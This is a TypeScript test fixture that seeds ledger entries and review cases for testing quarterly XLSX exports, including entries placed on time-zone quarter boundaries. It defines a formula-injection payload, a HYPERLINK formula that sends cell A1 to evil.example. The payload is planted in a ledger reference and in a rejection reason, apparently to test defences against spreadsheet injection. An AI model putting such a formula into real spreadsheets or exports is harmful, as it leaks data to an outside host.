import { PutCommand } from '@aws-sdk/lib-dynamodb';
import { documentClient } from '../../shared/adapters/clients.js';
import type { LedgerEntry } from '../../shared/domain/index.js';
import { rebuildDistrictProjection } from '../../shared/reports/rebuild.js';
import { TABLE_NAME, type TestPrincipal } from '../support/api.js';
import { createCase } from '../support/caseStore.js';
import { makeCase } from './fixtures.js';

/** The data of the export tests (exportRoutes, quarterlyExport): a ledger around 2026 Q2 and two cases. */
export const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
export const AUDITOR: TestPrincipal = { sub: 'au-1', groups: ['auditor'], district: '370302' };
export const FUND_ADMIN: TestPrincipal = { sub: 'fa-1', groups: ['fund_admin'], district: '370302' };
export const OTHER_AUDITOR: TestPrincipal = { sub: 'au-9', groups: ['auditor'], district: '370303' };
export const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';

type Stored = LedgerEntry & { quotaMu4?: number; quotaCentiM2?: number };

export const entry = (
  e: Pick<LedgerEntry, 'entryId' | 'at' | 'kind' | 'amountFen'> & Partial<Stored>,
): Stored =>
  ({
    debit: e.kind === 'advance' ? 'advances' : 'fund_cash',
    credit: e.kind === 'advance' ? 'fund_cash' : 'appropriations',
    actor: 'fa-1',
    ...e,
  }) as Stored;

// 2026 Q2 in Zibo runs from 2026-03-31T16:00Z to 2026-06-30T16:00Z
export const LEDGER: Stored[] = [
  entry({ entryId: 'L-1', at: '2026-03-31T15:59:59Z', kind: 'advance', amountFen: 1 }), // Q1: 23:59:59 on 31 March
  entry({ entryId: 'L-2', at: '2026-03-31T17:00:00Z', kind: 'advance', amountFen: 12_345, caseId: 'EXP-1' }), // Q2: 01:00 on 1 April
  entry({
    entryId: 'L-3',
    at: '2026-04-02T02:00:00Z',
    kind: 'replenishment',
    amountFen: 50_000_000,
    source: 'appropriation',
    reference: EVIL,
  }),
  entry({
    entryId: 'L-4',
    at: '2026-05-31T23:59:59Z', // just before midnight UTC: 07:59:59 on 1 June in Zibo
    kind: 'replenishment',
    amountFen: 3_000_099,
    credit: 'quota_sales',
    source: 'quota_sale',
    quotaMu4: 1500,
    quotaCentiM2: 10_000,
  }),
  entry({
    entryId: 'L-5',
    at: '2026-06-01T00:00:00Z',
    kind: 'reversal',
    amountFen: 12_345,
    debit: 'fund_cash',
    credit: 'advances',
    reversesEntryId: 'L-2',
    reference: '冲正：重复垫付',
  }),
  entry({ entryId: 'L-6', at: '2026-06-30T16:30:00Z', kind: 'advance', amountFen: 7 }), // Q3: 00:30 on 1 July
];

async function putLedgerItem(district: string, e: (typeof LEDGER)[number], seq: number, balance: number) {
  await documentClient().send(
    new PutCommand({
      TableName: TABLE_NAME,
      Item: {
        PK: `FUND#${district}`,
        SK: `ENTRY#${e.at}#${e.entryId}`,
        itemType: 'ledger_entry',
        districtCode: district,
        seq,
        balanceAfterFen: balance,
        ...e,
      },
    }),
  );
}

export async function seedExportData(): Promise<void> {
  let balance = 0;
  for (const [i, e] of LEDGER.entries()) {
    balance += e.debit === 'fund_cash' ? e.amountFen : -e.amountFen;
    await putLedgerItem('370302', e, i + 1, Math.max(balance, 0));
  }
  await putLedgerItem(
    '370303',
    entry({ entryId: 'L-X', at: '2026-05-01T00:00:00Z', kind: 'advance', amountFen: 777 }),
    1,
    0,
  );
  // a village rejection in the quarter whose reason is a formula, and a case in a status with a code name
  await createCase(
    makeCase({
      caseId: 'EXP-1',
      steps: [
        ['draft', '2026-04-01T00:00:00Z'],
        ['submitted', '2026-04-02T00:00:00Z'],
        ['village_review', '2026-04-03T00:00:00Z'],
        ['rejected', '2026-04-05T00:00:00Z'],
      ],
      extra: {
        reviews: [
          {
            decision: 'reject',
            reasons: [EVIL],
            resolution: { meetingDate: '2026-04-05', membersPresent: 9, votesFor: 1, votesAgainst: 8 },
            reviewer: 'vr1',
            at: '2026-04-05T00:00:00Z',
          },
        ],
      },
    }),
    { actor: 'seed', action: 'case.seeded' },
  );
  await createCase(
    makeCase({
      caseId: 'EXP-2',
      steps: [
        ['draft', '2026-04-10T00:00:00Z'],
        ['village_review', '2026-04-11T00:00:00Z'],
      ],
    }),
    {
      actor: 'seed',
      action: 'case.seeded',
    },
  );
  // seeded cases publish no event: their rows of the reporting projection are written as a deployment
  // writes those of the cases it finds (scripts/rebuildReportProjection.ts)
  await rebuildDistrictProjection('370302');
}
